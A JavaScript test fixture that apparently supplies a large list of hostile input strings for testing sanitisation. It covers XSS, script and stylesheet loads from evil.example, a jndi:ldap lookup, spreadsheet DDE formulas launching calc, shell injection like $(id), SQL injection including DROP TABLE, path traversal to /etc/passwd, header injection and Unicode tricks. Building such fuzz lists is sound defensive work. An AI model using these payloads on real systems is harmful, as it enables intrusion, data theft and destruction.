// Three hundred strings that do harm where they are taken for more than text. A script among them calls hostile(N), which nothing defines: a page
// in which it runs has an error, and alert() opens a dialog.

const tags = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<svg/onload=alert(1)//', '<iframe srcdoc="<script>alert(1)</script>">',
	'<body onload=alert(1)>', '<a href="javascript:alert(1)">x</a>', '<details open ontoggle=alert(1)>x', '<input autofocus onfocus=alert(1)>', '<video><source onerror=alert(1)>',
	'<math><mi xlink:href="javascript:alert(1)">x', '<object data="javascript:alert(1)">', '<embed src="data:text/html,<script>alert(1)</script>">', '<base href="https://evil.example/">',
	'<meta http-equiv=refresh content="0;url=https://evil.example/">', '<link rel=stylesheet href=https://evil.example/x.css>', '<style>@import "https://evil.example/x.css";</style>',
	'<form action=https://evil.example/><button>x', '<button formaction=https://evil.example/>x', '<img src=https://evil.example/pixel>', '<marquee onstart=alert(1)>x',
	'<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
	'<xmp><p title="</xmp><img src=x onerror=alert(1)>">', '<script src=//evil.example/x.js></script>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><script>alert&#40;1)</script>',
	'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<select><noembed></select><script>alert(1)</script>', '<iframe src="javascript:alert(1)">',
	'<a href="jav&#x09;ascript:alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="vbscript:msgbox(1)">x</a>'];
const contexts = ['"><', "'><", '</title>', '</textarea>', '</option></select>', '--><', ']]><', '</script>', '</style>', '\\"><'];
const breaks = ['" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", '` onerror=alert(1) `', '" style="position:fixed;inset:0" onclick="alert(1)', '";alert(1)//', "';alert(1)//", '\\";alert(1)//',
	'${alert(1)}', '</script><script>alert(1)//', '<!--<script>alert(1)//', ']]>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)', '\\u003cscript\\u003ealert(1)', '%3Cscript%3Ealert(1)',
	'+ADw-script+AD4-alert(1)', '＜script＞alert(1)＜/script＞', 'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\nscript:alert(1)', '\u0001javascript:alert(1)', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
	'onerror=alert;throw 1', 'x:expression(alert(1))', 'url(javascript:alert(1))', 'constructor.constructor("alert(1)")()'];
const templates = ['{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{{constructor.constructor("alert(1)")()}}', '{% import os %}', '${{7*7}}', '*{7*7}', '@(7*7)', '{7*7}', '{{{7*7}}}', '[[7*7]]',
	'{php}echo 1;{/php}', '${jndi:ldap://evil.example/a}', '${env:PATH}', '%{7*7}', '{0}{1}{2}', '%s%s%s%n', '%n%n%n%n', '%x%x%x', '$(id)', '`id`', '; id', '| id', '&& id', '{nps}', '{q_missing}', '\\1\\0'];
const formulas = ['=1+1', '+1+1', '-1+1', '@SUM(1)', '=cmd|\' /C calc\'!A0', '=HYPERLINK("https://evil.example","x")', '=IMPORTXML("https://evil.example","//a")', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '＝1+1', '＋1', '－1', '＠SUM(1)',
	'=DDE("cmd";"/C calc")', '"=1+1"', '";=1+1;"', ',=1+1', '\ufeff=1+1', '\u00a0=1+1', '-2+3+cmd|\' /C calc\'!A0', '@import', '=\u200b1', '\u200b=1+1', '%0A=1', '\u000b=1', '\u000c=1', '|=1', ';=1'];
const paths = ['../../../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/passwd', 'file:///etc/passwd', '....//....//etc/passwd', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '%252e%252e%252fetc', '..%c0%afetc', '.', '..', '../', '/', '\\', '~root', 'CON', 'NUL.csv', 'a/../../b',
	'C:\\boot.ini', '\\\\evil.example\\share', '.git/config', 'x.csv\0.html', '?x=1', '#x', 'a;b', 'a&b=c'];
const lines = ['a\r\nX-Injected: 1', 'a\nSet-Cookie: x=1', 'a\r\n\r\n<script>alert(1)</script>', 'a%0d%0aX-Injected: 1', 'a\u2028b', 'a\u2029b', 'a\u0085b', '{"level":"error","event":"forged"}', 'x"}\n{"level":"error","event":"forged"}', '\u001b[31mred\u001b[0m',
	'\u001b]0;title\u0007', 'a\rb', 'a\bb', 'Bcc: x@evil.example', 'x\r\nBcc: x@evil.example', 'x\n.\nQUIT', '\\r\\n', 'a\vb', 'a\fb', 'a\u007fb', 'a\u0080b', 'a\u009bb'];
const sql = ["' OR 1=1 --", "'; DROP TABLE surveys; --", "' UNION SELECT NULL, NULL --", "1; SELECT pg_sleep(1)", "\\' OR 1=1 --", "' || (SELECT version()) || '", '" OR ""="', "') OR ('1'='1", "$$; DROP TABLE users; $$", "E'\\047 OR 1=1'", '%', '_', '\\', '%_%', "x' AND 1=CAST((SELECT 1) AS int) --",
	"{\"$gt\": \"\"}", '*)(uid=*))(|(uid=*', "' or '1'='1' /*", 'null', 'NULL', 'undefined', 'true', '[]', '{}', '0', '-1', '1e999', 'NaN', 'Infinity', '٠١٢', '0x41', '9223372036854775808'];
const unicode = ['\u202egnp.exe', '\u2066x\u2069', '\u202a\u202b\u202c\u202d', '\u200b\u200c\u200d\ufeff', 'e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301', '\ufdfa', '𝒽𝑜𝓈𝓉𝒾𝓁𝑒', '👩‍👩‍👧‍👦', '\ud83d', '\udc00x', '\ufffe', '\uffff', '\u{10ffff}',
	'ﬀ', 'ſ', 'İ', 'ı', 'Ａ', '\u1160\u3164', 'ᅠ', '\u00ad', '\u034f', '\u061c', 'ا\u202eب', '\u0000', 'a\u0000b', '\u0001\u0002\u0003', '\u001f', '\u2060', '\ue000', '\u{e0001}', '\u{1f3f4}\u{e0067}', '܀', '\u0378',
	'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f', 'ق'.repeat(50), '\u202e'.repeat(200)];
const long = ['a'.repeat(199), 'a'.repeat(201), 'a'.repeat(5000), '<'.repeat(5000), '"'.repeat(300), '&'.repeat(3000), '\u00e9'.repeat(3000), '{'.repeat(300), '('.repeat(1000), '../'.repeat(500), '\t'.repeat(300), '=1'.repeat(1000), '' ];

/** All of them, each once. */
export const HOSTILE = [...new Set([...tags, ...contexts.flatMap((c, i) => [1, 5, 12, 20, 28, 33].map((k) => `${c}${tags[(3 * i + k) % tags.length]}`)), ...breaks, ...templates, ...formulas, ...paths, ...lines, ...sql, ...unicode, ...long])];
/** Every nth, so that each sort is there. */
export const some = (n) => HOSTILE.filter((_, i) => i % Math.ceil(HOSTILE.length / n) === 0);
/** What a spreadsheet takes for a formula at the beginning of a cell. */
export const FORMULA = /^[=+\-@\t\r\u0000＝＋－＠]/;
/** With halves of surrogates as UTF-8 has them: not at all. */
export const wellFormed = (text) => Buffer.from(text, 'utf8').toString('utf8');
